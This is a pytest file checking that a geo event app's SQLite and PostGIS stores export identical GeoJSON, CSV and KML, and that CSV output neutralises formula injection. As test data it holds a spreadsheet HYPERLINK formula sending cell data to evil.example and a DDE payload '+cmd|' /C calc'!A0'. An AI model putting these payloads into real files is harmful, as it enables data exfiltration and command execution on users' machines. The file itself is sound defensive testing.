"""The same documents stored in SQLite and in PostGIS give the same exports: every text format
the export route streams (GeoJSON, GeoJSON Text Sequences, CSV, KML), downloaded from the real
Flask app over each real store (PostGIS on the tests' throwaway cluster), for the whole store
and for filters. The PostGIS store builds each GeoJSON Feature in SQL, the SQLite store in
SQLite: the Features must be equal, properties in the same order, merged incidents with their
sources; hostile text stays text, a CSV cell that starts like a formula is neutralised."""

from __future__ import annotations

import csv
import io
import json
import threading

import pytest

from geo.export import EXPORTS, RS
from geo.model import DateValue, Document, Event, Mention
from geo.pipeline import Extracted
from geo.store import open_store
from tests.test_export_formats import _month_in_bamako, _unlocated
from tests.test_store import ALEPPO, SOCHI, report, sample_documents
from tests.web_fixtures import HOSTILE, build_extracted
from web import create_app

TEXT_FORMATS = [name for name, form in EXPORTS.items() if form.streamed]
FILTERS = [
    "",
    "?type=Battles",
    "?bbox=35.5,32.3,42.4,37.4",
    "?start=2016-12-01&end=2020-12-31",
    "?place=Syrie",
    "?type=Diplomacy&bbox=30,40,45,50",
]
# what a spreadsheet would run: the CSV must start these cells with an apostrophe
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _formula_document(gaz) -> Extracted:
    """An event whose sentence, actor and source start like spreadsheet formulas, with a record
    separator, a line feed, quotes and a backslash inside its text."""
    sentence = f'{FORMULA} -3 tués à Alep\x1e, "dit-on"\n\\ selon @source.'
    aleppo = gaz.get("gn:170063")
    return Extracted(
        Document(
            "doc-formula", sentence, "fr", published="2019-03-04", title="+cmd|' /C calc'!A0",
            source="@SUM(1+1)", url="https://example.org/f?x=1&y=\"2\"",
        ),
        "fr",
        DateValue("2019-03-04", "day"),
        (Mention(sentence.index("Alep"), sentence.index("Alep") + 4, "Alep", place=aleppo,
                 score=0.9),),
        (
            Event(
                "Violence against civilians", "Attack", sentence, 0, len(sentence),
                date=DateValue("2019-03-04", "day", "lundi"), actors=("-milice", HOSTILE),
                fatalities=3, place=aleppo, place_precision="city", confidence=0.123456789,
                fatalities_phrase="=3 morts",
            ),
        ),
        (),
    )  # fmt: skip


def _documents(gaz) -> list[Extracted]:
    merged = [
        report(gaz, "sochi-afp", "Poutine et Erdogan se sont rencontrés mardi à Sotchi.", SOCHI,
               "2024-09-03", source="AFP"),
        report(gaz, "sochi-reuters", "Putin met Erdogan in Sochi on Tuesday.", SOCHI,
               "2024-09-03", actors=("Russia", "Turkey"), source="Reuters"),
    ]  # fmt: skip
    return [
        *sample_documents(gaz), *build_extracted(gaz), _unlocated(), _month_in_bamako(gaz),
        _formula_document(gaz), *merged,
    ]  # fmt: skip


@pytest.fixture(scope="module")
def clients(gaz, postgis_cluster, tmp_path_factory, gazetteer_path):
    """The real app over each store, both holding the same documents, added in one order."""
    url = postgis_cluster.create_database()
    stores = {
        "sqlite": open_store(tmp_path_factory.mktemp("same") / "store.sqlite"),
        "postgis": open_store(url),
    }
    for x in _documents(gaz):
        for st in stores.values():
            st.add(x)
    yield {
        name: create_app({"STORE": st, "GAZETTEER": gazetteer_path, "TESTING": True}).test_client()
        for name, st in stores.items()
    }
    for st in stores.values():
        st.close()
    postgis_cluster.drop_database(url)


def _download(client, fmt: str, query: str) -> str:
    resp = client.get(f"/export/events.{fmt}{query}")
    assert resp.status_code == 200, resp.data[:300]
    assert resp.mimetype == EXPORTS[fmt].media_type.split(";")[0]
    return resp.get_data(as_text=True)


def _features(fmt: str, text: str) -> list[dict]:
    if fmt == "geojson":
        return json.loads(text)["features"]
    assert text == "" or (text.startswith(RS) and text.endswith("\n"))
    records = text.split(RS)[1:]
    assert all(r.count("\n") == 1 for r in records)  # no line feed inside a Feature
    return [json.loads(r) for r in records]


@pytest.mark.parametrize("query", FILTERS)
@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_both_stores_export_the_same_content(clients, fmt, query):
    sq, pg = (_download(clients[name], fmt, query) for name in ("sqlite", "postgis"))
    if fmt in ("geojson", "geojsonl"):
        a, b = _features(fmt, sq), _features(fmt, pg)
        assert a == b
        # the properties in the same order, the point the same numbers
        assert [list(f["properties"]) for f in a] == [list(f["properties"]) for f in b]
        assert [f["geometry"] for f in a] == [f["geometry"] for f in b]
        if not query:
            assert len(a) == 23
    else:  # CSV and KML are written from the same rows: the same text
        assert sq == pg


def test_the_whole_export_holds_what_users_read(clients):
    """The PostGIS export's Features: a merged incident with both sources, the hostile text as
    text, the formula neutralised in CSV, the toll and the point as stored."""
    text = _download(clients["postgis"], "geojson", "")
    features = {f["properties"]["doc_id"]: f for f in json.loads(text)["features"]}
    meeting = features["sochi-afp"]["properties"]
    assert meeting["sources"] == ["sochi-afp", "sochi-reuters"] and meeting["n_sources"] == 2
    assert "sochi-reuters" not in features  # a merged report is no event of its own
    formula = features["doc-formula"]
    assert formula["properties"]["sentence"].startswith(FORMULA)
    assert "\x1e" in formula["properties"]["sentence"] and "\\" in formula["properties"]["sentence"]
    assert formula["properties"]["actors"] == ["-milice", HOSTILE]
    assert formula["properties"]["confidence"] == 0.123456789
    assert formula["geometry"]["type"] == "Point" and len(formula["geometry"]["coordinates"]) == 2
    assert features["doc-nowhere"]["geometry"] is None
    rows = list(csv.DictReader(io.StringIO(_download(clients["postgis"], "csv", ""))))
    [row] = [r for r in rows if r["doc_id"] == "doc-formula"]
    assert row["notes"] == "'" + formula["properties"]["sentence"].replace("\r", "")
    assert row["fatalities_phrase"] == "'=3 morts" and row["source"] == "'@SUM(1+1)"


def _more(i: int, n: int) -> Extracted:
    """A document of ``n`` unlocated events (several id ranges, some without a point)."""
    return Extracted(
        Document(f"more-{i}", f"Des frappes à Alep ({i}).", "fr"),
        "fr",
        DateValue(None),
        (),
        tuple(Event("Battles", None, f"« {i} » é \\ \x1e", 0, 9) for _ in range(n)),
        (),
    )


def test_a_full_postgis_export_read_by_several_connections_is_one_instant(
    gaz, postgis_url, tmp_path, monkeypatch
):
    """A whole GeoJSON export read in id ranges by several connections at once is the file a
    single stream writes, and the store as it was when the export began: a report of a stored
    incident written while the ranges are read (merged into an event they hold) is not in it."""
    import geo.export
    from geo.export import export_events
    from geo.store.postgis_export import PostGISExportMixin

    st = open_store(postgis_url)
    for x in [*sample_documents(gaz), *(_more(i, 3) for i in range(5))]:
        st.add(x)
    monkeypatch.setattr(geo.export, "PARALLEL_EXPORT_MIN", 10**9)
    assert export_events(st, "geojson", tmp_path / "one.geojson") == 18
    monkeypatch.setattr(geo.export, "PARALLEL_EXPORT_MIN", 1)
    monkeypatch.setattr(geo.export.os, "cpu_count", lambda: 3)
    again = report(gaz, "again", "Des frappes russes sur Alep jeudi.", ALEPPO, "2016-12-08",
                   type_="Explosions/Remote violence", subtype="Air/drone strike",
                   actors=("Russie",))  # fmt: skip
    ranges = []
    lock = threading.Lock()
    original = PostGISExportMixin._write_feature_range

    def read_range(self, snapshot, out, lo, hi):
        with lock:  # a writer commits before the first range is read
            if not ranges:
                with open_store(postgis_url) as other:
                    assert other.add(again) == "again"
            ranges.append((lo, hi))
        return original(self, snapshot, out, lo, hi)

    monkeypatch.setattr(PostGISExportMixin, "_write_feature_range", read_range)
    assert export_events(st, "geojson", tmp_path / "many.geojson") == 18
    assert len(ranges) == 3
    assert (tmp_path / "many.geojson").read_bytes() == (tmp_path / "one.geojson").read_bytes()
    [merged] = [e for e in st.events(limit=100)[0] if e["n_sources"] == 2]
    assert merged["sources"] == ["afp-a", "again"]  # stored meanwhile, exported next time
    assert export_events(st, "geojson", tmp_path / "next.geojson") == 18
    features = json.loads((tmp_path / "next.geojson").read_text("utf-8"))["features"]
    assert [f["properties"]["sources"] for f in features if f["id"] == merged["id"]] == [
        ["afp-a", "again"]
    ]
    assert not [p.name for p in tmp_path.iterdir() if ".part" in p.name]
    st.close()
